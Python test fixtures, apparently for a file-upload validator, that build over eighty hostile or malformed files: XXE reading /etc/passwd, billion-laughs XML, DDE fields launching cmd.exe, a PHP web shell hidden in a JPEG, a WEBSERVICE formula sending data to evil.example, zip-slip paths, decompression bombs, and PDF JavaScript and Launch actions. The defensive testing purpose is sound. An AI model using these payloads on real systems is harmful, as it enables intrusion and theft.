"""Hostile and broken files, made here, each with the reason for which it is refused."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache

from tests.files import good

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000)
ENTITY = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
LAUGHS = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>'
SCRIPT = b"<script>alert(1)</script>"
TYPES = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'


@dataclass(frozen=True)
class Bad:
    """A file and the codes (words.REASONS) that may be its reason."""

    name: str
    content: bytes
    reasons: tuple[str, ...]
    about: str = ""

    @property
    def title(self) -> str:
        """What pytest calls it."""
        return self.about or self.name


def changed(
    content: bytes, changes: dict[str, bytes | None], renamed: dict[str, str] | None = None, level: int | None = None
) -> bytes:
    """A zip with members replaced, added or (None) left out."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as new,
    ):
        for one in old.infolist():
            data = changes.get(one.filename, old.read(one))
            if data is not None:
                new.writestr((renamed or {}).get(one.filename, one.filename), data)
        there = set(old.namelist())
        for name, data in changes.items():
            if data is not None and name not in there:
                new.writestr(name, data)
    return out.getvalue()


def part(content: bytes, name: str) -> str:
    """The text of a member."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read(name).decode()


def inserted(content: bytes, name: str, before: str, xml: str) -> bytes:
    """A zip with a piece of XML put into a member."""
    text = part(content, name)
    assert before in text
    return changed(content, {name: text.replace(before, xml + before, 1).encode()})


def zipped(*members: tuple[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A plain zip."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as made:
        for name, data in members:
            made.writestr(name, data)
    return out.getvalue()


@cache
def all_bad() -> tuple[Bad, ...]:
    """More than eighty; made once, as it takes a second."""
    return tuple(_all_bad())


def _all_bad() -> Iterator[Bad]:
    for make in (
        _no_kind,
        _programs,
        _archives,
        _office,
        _relations,
        _zip_tricks,
        _odf,
        _pdf,
        _pictures,
        _texts,
        _mails,
    ):
        yield from make()


def _no_kind() -> Iterator[Bad]:
    yield Bad("leeg.pdf", b"", ("empty",))
    yield Bad("foto.heic", b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(100), ("heic",))
    yield Bad("foto.jpg", b"\x00\x00\x00\x18ftypmif1\x00\x00\x00\x00mif1heic" + bytes(100), ("heic",), "heic as jpg")
    yield Bad("a.bmp", b"BM" + bytes(200), ("unknown",))
    yield Bad("a.tiff", b"II*\x00" + bytes(200), ("unknown",))
    yield Bad("a.mp4", b"\x00\x00\x00\x18ftypisom" + bytes(200), ("unknown",))
    yield Bad("a.rtf", rb"{\rtf1\ansi hallo}", ("unknown",))
    yield Bad("a.doc", OLE, ("old_office",))
    yield Bad("a.msg", OLE, ("old_office",))
    yield Bad("nep.pdf", OLE, ("old_office",), "old Word as pdf")
    yield Bad("wachtwoord.docx", OLE + "EncryptedPackage".encode("utf-16-le"), ("encrypted",))
    yield Bad("a.sqlite", b"SQLite format 3\x00" + bytes(100), ("unknown",))
    yield Bad("a.txt", b"tekst\x00\x01\x02" * 30, ("unknown",), "zeros in a text")
    yield Bad("a.txt", b"tekst \x1b[2J\x07 \x08", ("unknown",), "control characters in a text")


def _programs() -> Iterator[Bad]:
    for name, start in (
        ("setup.exe", b"MZ\x90\x00"), ("lib.so", b"\x7fELF\x02"), ("App.class", b"\xca\xfe\xba\xbe\x00\x00"),
        ("mac.bin", b"\xcf\xfa\xed\xfe"), ("run.sh", b"#!/bin/sh\n"), ("a.wasm", b"\x00asm"), ("a.dex", b"dex\n035"),
        ("link.lnk", b"L\x00\x00\x00\x01\x14\x02\x00"), ("factuur.pdf", b"MZ\x90\x00"), ("foto.jpg", b"\x7fELF\x02"),
        ("fdp.\u202eexe.pdf", b"MZ\x90\x00"),
    ):  # fmt: skip
        yield Bad(name, start + bytes(300), ("executable",), f"program as {name.encode('ascii', 'replace').decode()}")
    yield Bad("a.bat", b"@echo off\r\ndel *.*\r\n", ("executable", "name"))
    yield Bad("a.txt", b"@echo off\r\ndel *.*\r\n", ("executable",), "batch file as txt")
    yield Bad("a.url", b"[InternetShortcut]\nURL=file://evil\n", ("executable",))
    yield Bad("a.js", b"WScript.Shell", ("name",))
    yield Bad("a.ps1", b"Get-Process", ("name",))
    yield Bad("eicar.com", EICAR, ("virus",))
    yield Bad("eicar.txt", EICAR, ("virus",))
    yield Bad("in een docx.docx", changed(good.a_docx("x"), {"word/media/image1.png": EICAR}), ("virus",))
    yield Bad("in een mail.eml", good.a_mail("x", attached=("a.txt", EICAR)), ("virus",))


def _archives() -> Iterator[Bad]:
    yield Bad("a.zip", zipped(("a.txt", b"hallo")), ("archive",))
    yield Bad("a.docx", zipped(("a.txt", b"hallo")), ("archive",), "zip as docx")
    yield Bad("leeg.zip", zipped(), ("archive",))
    yield Bad("a.jar", zipped(("META-INF/MANIFEST.MF", b"x"), ("A.class", b"\xca\xfe\xba\xbe")), ("executable",))
    yield Bad("a.apk", zipped(("AndroidManifest.xml", b"x")), ("executable",))
    yield Bad("a.epub", zipped(("mimetype", b"application/epub+zip")), ("unknown",))
    for name, start in (
        ("a.rar", b"Rar!\x1a\x07\x01\x00"), ("a.7z", b"7z\xbc\xaf\x27\x1c"), ("a.gz", b"\x1f\x8b\x08"),
        ("a.xz", b"\xfd7zXZ\x00"), ("a.bz2", b"BZh9"), ("a.cab", b"MSCF"), ("a.tar", bytes(257) + b"ustar"),
        ("a.zst", b"\x28\xb5\x2f\xfd"),
    ):  # fmt: skip
        yield Bad(name, start + bytes(300), ("archive", "unknown"))


def _office() -> Iterator[Bad]:
    word, book, deck = good.a_docx("x"), good.an_xlsx("x"), good.a_pptx("x", chart=True)
    yield Bad("macro.docx", changed(word, {"word/vbaProject.bin": OLE}), ("macro",))
    macro = (
        part(word, "[Content_Types].xml")
        .replace("wordprocessingml.document.main", "x")
        .replace(
            "application/vnd.openxmlformats-officedocument.x+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
        )
    )
    yield Bad("a.docm", changed(word, {"[Content_Types].xml": macro.encode()}), ("macro",))
    stated = part(word, "[Content_Types].xml").replace("</Types>", TYPES)
    yield Bad("stated.docx", changed(word, {"[Content_Types].xml": stated.encode()}), ("macro",))
    yield Bad("macro.xlsx", changed(book, {"xl/vbaProject.bin": OLE}), ("macro",))
    yield Bad("oud macroblad.xlsx", changed(book, {"xl/macrosheets/sheet1.xml": b"<a/>"}), ("macro",))
    yield Bad("activex.docx", changed(word, {"word/activeX/activeX1.xml": b"<a/>"}), ("macro",))
    yield Bad("ole.docx", changed(word, {"word/embeddings/oleObject1.bin": OLE}), ("embedded",))
    yield Bad("exe erin.docx", changed(word, {"word/embeddings/a.exe": b"MZ" + bytes(99)}), ("executable",))
    yield Bad("exe als foto.docx", changed(word, {"word/media/image9.png": b"MZ" + bytes(99)}), ("nested",))
    yield Bad("zip als foto.docx", changed(word, {"word/media/image9.png": zipped(("a", b"b"))}), ("nested",))
    yield Bad("pdf erin.docx", changed(word, {"word/media/image9.emf": good.a_pdf("x")}), ("nested",))
    evil_book = changed(book, {"xl/vbaProject.bin": OLE})
    inner = next(one for one in zipfile.ZipFile(io.BytesIO(deck)).namelist() if "embeddings/" in one)
    yield Bad("macro in grafiek.pptx", changed(deck, {inner: evil_book}), ("macro",))
    deep = changed(word, {"word/embeddings/a.docx": changed(word, {"word/embeddings/b.docx": changed(word, {
        "word/embeddings/c.docx": word})})})  # fmt: skip
    yield Bad("diep.docx", deep, ("nested",))
    for name, xml in (("xxe", ENTITY), ("lach", LAUGHS)):
        yield Bad(f"{name}.docx", changed(word, {"word/document.xml": xml.encode()}), ("entities",))
        yield Bad(f"{name} in eigenschappen.docx", changed(word, {"docProps/core.xml": xml.encode()}), ("entities",))
        yield Bad(f"{name} terzijde.docx", changed(word, {"customXml/item1.xml": xml.encode()}), ("entities",))
        yield Bad(f"{name}.xlsx", changed(book, {"xl/sharedStrings.xml": xml.encode()}), ("entities",))
        yield Bad(f"{name}.rels.xlsx", changed(book, {"xl/_rels/workbook.xml.rels": xml.encode()}), ("entities",))
        yield Bad(f"{name}.pptx", changed(deck, {"ppt/slides/slide1.xml": xml.encode()}), ("entities",))
    field = '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
    yield Bad("dde.docx", inserted(word, "word/document.xml", "<w:sectPr", field), ("program",))
    split = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in ("DD", "EAU", "TO cmd"))
    yield Bad(
        "dde in stukken.docx", inserted(word, "word/document.xml", "<w:sectPr", f"<w:p>{split}</w:p>"), ("program",)
    )
    dde = b'<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    yield Bad("dde.xlsx", changed(book, {"xl/externalLinks/externalLink1.xml": dde}), ("program",))
    yield Bad("zonder tekst.docx", changed(word, {"word/document.xml": None}), ("damaged",))
    yield Bad("kapot.docx", changed(word, {"word/document.xml": b"<w:document><w:p>"}), ("damaged",))
    yield Bad("diepe xml.docx", changed(word, {"word/document.xml": b"<a>" * 5000 + b"</a>" * 5000}), ("bomb",))
    both = part(word, "[Content_Types].xml").replace("</Types>", (
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'spreadsheetml.sheet.main+xml"/></Types>'))  # fmt: skip
    yield Bad("twee tegelijk.docx", changed(word, {"[Content_Types].xml": both.encode()}), ("polyglot",))
    yield Bad("naam liegt.xlsx", word, ("name",))
    yield Bad("naam liegt.exe", word, ("name",))


def _relations() -> Iterator[Bad]:
    word, book = good.a_docx("x"), good.an_xlsx("x")
    start = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    for kind, target in (
        ("attachedTemplate", "https://evil.example/a.dotm"), ("image", "https://evil.example/pixel.png"),
        ("oleObject", "mhtml:https://evil.example/a.html!x-usc:https://evil.example"), ("frame", "file://evil/share"),
        ("hyperlink", "ms-msdt:/id PCWDiagnostic"), ("hyperlink", "javascript:alert(1)"),
        ("subDocument", "\\\\evil\\a"),
    ):  # fmt: skip
        xml = f'<Relationship Id="rId99" Type="{start}{kind}" Target="{target}" TargetMode="External"/>'
        made = inserted(word, "word/_rels/document.xml.rels", "</Relationships>", xml)
        yield Bad(f"{kind}.docx", made, ("external",), f"{kind} to {target.partition(':')[0]}")
    kept = part(book, "xl/_rels/workbook.xml.rels")
    xml = kept[: kept.index(">", kept.index("<Relationships")) + 1]
    xml += f'<Relationship Id="rId1" Type="{start}externalLinkPath" '
    xml += 'Target="file:///\\\\evil\\a.xlsx" TargetMode="External"/></Relationships>'
    linked = changed(book, {"xl/externalLinks/_rels/externalLink1.xml.rels": xml.encode()})
    yield Bad("koppeling.xlsx", linked, ("external",))


def _zip_tricks() -> Iterator[Bad]:
    word = good.a_docx("x")
    for name in ("../../evil.xml", "/etc/evil.xml", "word\\evil.xml", "C:evil.xml", "a/../../b.xml"):
        yield Bad("pad.docx", changed(word, {name: b"<a/>"}), ("zip_tricks",), f"member {name}")
    yield Bad("bom.docx", changed(word, {"word/media/a.png": bytes(60_000_000)}), ("bomb",))
    # Packed in the quickest way: each process of a run makes all of these.
    large = changed(word, {"word/document.xml": b"<a>" + b" " * 210_000_000 + b"</a>"}, level=1)
    yield Bad("grote bom.docx", large, ("bomb",))
    many = changed(word, {f"word/media/{number}.xml": b"<a/>" for number in range(4100)})
    yield Bad("veel delen.docx", many, ("bomb",))
    yield Bad("ervoor.docx", b"PK\x03\x04" + b"x" * 50 + word, ("polyglot", "damaged"), "something before the zip")
    yield Bad("erachter.docx", word + b"<html>" * 20, ("polyglot", "damaged"), "something behind the zip")
    yield Bad("afgekapt.docx", word[: len(word) // 2], ("damaged",))
    yield Bad("afgekapt op het eind.docx", word[:-10], ("damaged", "polyglot"))
    yield Bad("versleuteld.docx", _flagged(word, 0x1), ("encrypted",))
    yield Bad("dubbel.docx", _twice(word), ("zip_tricks",))
    yield Bad("commentaar.docx", _commented(word), ("polyglot",))
    yield Bad("bzip2.docx", good.repacked(word, zipfile.ZIP_BZIP2), ("zip_tricks",))
    yield Bad("lzma.docx", good.repacked(word, zipfile.ZIP_LZMA), ("zip_tricks",))
    yield Bad("link.docx", _with_link(word), ("zip_tricks",))
    yield Bad("verkeerde som.docx", _broken_sum(word), ("damaged",))
    yield Bad("overlap.docx", _overlapping(word), ("bomb", "damaged"))


def _flagged(content: bytes, bits: int) -> bytes:
    data = bytearray(content)
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(sign)
        while at >= 0:
            data[at + place] |= bits
            at = data.find(sign, at + 4)
    return bytes(data)


def _twice(content: bytes) -> bytes:
    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a") as made:
        made.writestr("WORD/document.xml", b"<a/>")
    return out.getvalue()


def _commented(content: bytes) -> bytes:
    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a") as made:
        made.comment = b"%PDF-1.7 not really"
    return out.getvalue()


def _with_link(content: bytes) -> bytes:
    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a") as made:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        made.writestr(link, "/etc/passwd")
    return out.getvalue()


def _broken_sum(content: bytes) -> bytes:
    stored = bytearray(good.repacked(content, zipfile.ZIP_STORED))
    at = stored.find(b"Besproken")
    stored[at] ^= 0x01
    return bytes(stored)


def _overlapping(content: bytes) -> bytes:
    """Two entries of the directory lead to the same bytes."""
    data = bytearray(content)
    first = data.find(b"PK\x01\x02")
    second = data.find(b"PK\x01\x02", first + 4)
    data[second + 42 : second + 46] = data[first + 42 : first + 46]
    return bytes(data)


def _odf() -> Iterator[Bad]:
    text = good.an_odf("odt", "x")
    manifest = part(text, "META-INF/manifest.xml")
    sealed = manifest.replace("</manifest:manifest>", "<manifest:encryption-data/></manifest:manifest>")
    yield Bad("versleuteld.odt", _odf_with(text, {"META-INF/manifest.xml": sealed.encode()}), ("encrypted",))
    yield Bad("macro.odt", _odf_with(text, {"Basic/Standard/Module1.xml": b"<a/>"}), ("macro",))
    yield Bad("script.odt", _odf_with(text, {"Scripts/python/a.py": b"import os"}), ("macro",))
    for name, xml in (("xxe", ENTITY), ("lach", LAUGHS)):
        yield Bad(f"{name}.odt", _odf_with(text, {"content.xml": xml.encode()}), ("entities",))
        yield Bad(f"{name} in meta.odt", _odf_with(text, {"meta.xml": xml.encode()}), ("entities",))
    content = part(text, "content.xml")
    end = "</office:text>"
    for xml, why in (
        ('<draw:frame><draw:image xlink:href="https://evil.example/a.png"/></draw:frame>', "external"),
        ('<draw:frame><draw:object xlink:href="../../a.ods"/></draw:frame>', "external"),
        ('<text:a xlink:href="vnd.sun.star.script:a.b?language=Basic">x</text:a>', "program"),
        ('<text:a xlink:href="javascript:alert(1)">x</text:a>', "program"),
        ('<script:event-listener script:event-name="dom:load"/>', "macro"),
    ):
        made = content.replace(end, xml + end).encode()
        yield Bad("a.odt", _odf_with(text, {"content.xml": made}), (why,), f"odt with {xml[1:24]}")
    yield Bad("ole.odt", _odf_with(text, {"Object 1": OLE}), ("embedded", "nested"))
    yield Bad("mimetype later.odt", changed(text, {"mimetype": None, "zz": b"<a/>"}), ("archive", "unknown"))


def _odf_with(content: bytes, changes: dict[str, bytes]) -> bytes:
    return changed(content, dict(changes))


def _pdf() -> Iterator[Bad]:
    whole = good.a_pdf("x", compress=False)
    for name, inside, why in (
        ("js", b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", "program"),
        ("js verhuld", b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>", "program"),
        ("launch", b"/OpenAction << /S /Launch /F (cmd.exe) >>", "program"),
        ("formulier", b"/AA << /O << /S /SubmitForm /F (https://evil.example) >> >>", "program"),
        ("xfa", b"/AcroForm << /XFA 9 0 R >>", "program"),
        ("film", b"/Annots [ << /Subtype /RichMedia >> ]", "program"),
        ("bijlage", b"/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec >>] >> >>", "nested"),
        ("elders", b"/OpenAction << /S /GoToR /F (\\\\evil\\a.pdf) >>", "external"),
    ):
        yield Bad(f"{name}.pdf", whole.replace(b"/Type /Catalog", b"/Type /Catalog " + inside, 1), (why,))
    packed = zlib.compress(b"<< /S /JavaScript /JS (app.alert(1)) >>")
    hidden = b"9 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >> stream\n" % len(packed)
    hidden += packed + b"\nendstream endobj\n"
    yield Bad("in objectstroom.pdf", whole.replace(b"xref\n", hidden + b"xref\n", 1), ("program",))
    bomb = zlib.compress(bytes(80_000_000), 9)
    swollen = b"9 0 obj << /Type /ObjStm /Filter /FlateDecode /Length %d >> stream\n" % len(bomb) + bomb
    yield Bad("bom.pdf", whole.replace(b"xref\n", swollen + b"\nendstream endobj\nxref\n", 1), ("bomb",))
    yield Bad("wachtwoord.pdf", _sealed("geheim woord"), ("encrypted",))
    yield Bad("beperkt.pdf", _sealed(""), ("encrypted",))
    yield Bad("afgekapt.pdf", whole[: len(whole) * 2 // 3], ("damaged",))
    yield Bad("alleen kop.pdf", b"%PDF-1.7\n", ("damaged",))
    yield Bad("rommel.pdf", b"%PDF-1.7\n" + b"rommel " * 50 + b"\n%%EOF", ("damaged",))
    none = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    yield Bad("zonder pagina.pdf", none + b"trailer<</Root 1 0 R>>\n%%EOF", ("damaged",))
    yield Bad("met zip.pdf", whole + zipped(("a.exe", b"MZ")), ("polyglot",))
    inside = whole.replace(b"%%EOF", zipped(("a.exe", b"MZ")) + b"%%EOF")
    yield Bad("met zip erin.pdf", inside, ("polyglot",))
    yield Bad("met html.pdf", whole + SCRIPT, ("polyglot",))
    yield Bad("html voorop.pdf", b"%PDF-1.7 <html>" + SCRIPT + whole[8:], ("polyglot",))
    yield Bad("later.pdf", b"hallo\n" + whole, ("polyglot", "unknown", "name"))
    yield Bad("a.jpg", whole, ("name",), "pdf as jpg")


def _sealed(password: str) -> bytes:
    made = good.FPDF()
    made.set_encryption(owner_password="baas", user_password=password or None)
    made.add_page()
    made.set_font("Helvetica")
    made.cell(text="x")
    return bytes(made.output())


def _pictures() -> Iterator[Bad]:
    png, jpeg = good.a_picture("PNG"), good.a_picture("JPEG")
    gif, webp = good.a_picture("GIF"), good.a_picture("WEBP")
    for name, data in (("a.png", png), ("a.jpg", jpeg), ("a.gif", gif), ("a.webp", webp)):
        yield Bad(name, data[: len(data) // 2], ("damaged", "polyglot"), f"{name} cut off")
        yield Bad(name, data + zipped(("a.exe", b"MZ")), ("polyglot",), f"{name} with a zip behind it")
        yield Bad(name, data + b"\n" + SCRIPT, ("polyglot",), f"{name} with a script behind it")
        yield Bad(name, data + b"MZ" + bytes([1]) * 200, ("polyglot",), f"{name} with a program behind it")
    yield Bad("gif met script.gif", b"GIF89a/*" + gif[8:-1] + b"*/=1;alert(1)//;", ("damaged", "polyglot", "bomb"))
    yield Bad("php.jpg", jpeg[:2] + b"\xff\xfe\x00\x20<?php system($_GET['c']); ?>   " + jpeg[2:], ("polyglot",))
    yield Bad("rommel.png", png[:8] + b"rommel" * 50, ("damaged",))
    yield Bad("rommel.jpg", b"\xff\xd8\xff\xe0" + b"rommel" * 50, ("damaged",))
    yield Bad("rommel.webp", b"RIFF\x40\x00\x00\x00WEBPVP8 rommel" + b"x" * 50, ("damaged", "polyglot"))
    yield Bad("verkeerde som.png", png[:60] + bytes([png[60] ^ 0xFF]) + png[61:], ("damaged",))
    yield Bad("bom.png", _huge_png(30_000, 30_000), ("bomb",))
    yield Bad("breed.png", _huge_png(2_000_000_000, 2), ("bomb", "damaged"))
    yield Bad("naam liegt.pdf", png, ("name",), "png as pdf")


def _huge_png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(100_000), 9)) + chunk(b"IEND", b"")


def _texts() -> Iterator[Bad]:
    page = b"<html><body>" + SCRIPT + b"</body></html>"
    for name, data in (
        ("a.html", page), ("a.txt", page), ("a.md", page), ("spaties.txt", b"\n\n   " + page),
        ("met doctype.txt", b"<!DOCTYPE html>\n" + page), ("met commentaar.txt", b"<!-- hallo -->" + page),
        ("met bom.txt", b"\xef\xbb\xbf" + page), ("breed.txt", page.decode().encode("utf-16")),
        ("xml.txt", b'<?xml version="1.0"?><a/>'), ("xxe.txt", ENTITY.encode()), ("a.hta", b"<hta:application>"),
        ("verderop.txt", b"Beste lezer,\n" + SCRIPT), ("a.php", b"<?php phpinfo();"),
        ("kader.csv", b"a,b\n<iframe src=x>"),
    ):  # fmt: skip
        yield Bad(name, data, ("html",))
    yield Bad("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', ("svg",))
    yield Bad("svg.png", b'<?xml version="1.0"?><svg onload="alert(1)"/>', ("svg",), "svg as png")
    yield Bad("dde.csv", b"naam,aantal\n=cmd|' /C calc'!A0,1\n", ("program",))
    yield Bad("dde plus.csv", b"naam;aantal\n+cmd|' /C calc'!A0;1\n", ("program",))
    yield Bad("dde aanhaling.csv", b"naam,\"@SUM(1+1)*cmd|' /C calc'!A0\"\n", ("program",))
    yield Bad("web.csv", b'a,=WEBSERVICE("https://evil.example/?"&A1)\n', ("program",))


def _mails() -> Iterator[Bad]:
    def with_file(name: str, content: bytes) -> bytes:
        return good.a_mail("x", attached=(name, content))

    yield Bad("geen mail.eml", b"zomaar wat tekst", ("mail",))
    yield Bad("exe.eml", with_file("a.exe", b"MZ\x90" + bytes(99)), ("executable",))
    yield Bad("exe als pdf.eml", with_file("a.pdf", b"MZ\x90" + bytes(99)), ("executable",))
    yield Bad("zip.eml", with_file("a.zip", zipped(("a", b"b"))), ("nested",))
    yield Bad("html.eml", with_file("a.html", b"<html>" + SCRIPT), ("html",))
    yield Bad("macro.eml", with_file("a.docx", changed(good.a_docx("x"), {"word/vbaProject.bin": OLE})), ("macro",))
    yield Bad("oud.eml", with_file("a.doc", OLE), ("old_office",))
    deep = with_file("a.eml", with_file("b.eml", with_file("c.eml", with_file("d.txt", b"x"))))
    yield Bad("diep.eml", deep, ("nested",))
    parts = b"".join(b"--x\r\nContent-Type: text/plain\r\n\r\na\r\n" for _ in range(300))
    head = b"From: a@b.example\r\nTo: c@d.example\r\nMIME-Version: 1.0\r\n"
    head += b"Content-Type: multipart/mixed; boundary=x\r\n\r\n"
    yield Bad("veel delen.eml", head + parts + b"--x--\r\n", ("bomb",))
    yield Bad("afgekapt.eml", good.a_mail("x", html=True)[:-60], ("damaged",))
    yield Bad(
        "versleuteld.eml",
        head.replace(b"multipart/mixed; boundary=x", b"application/pkcs7-mime") + b"MIIB",
        ("encrypted",),
    )
    yield Bad("programma.eml", b"MZ\x90\x00\nFrom: a@b.example\nTo: c@d.example\n\n", ("executable",))
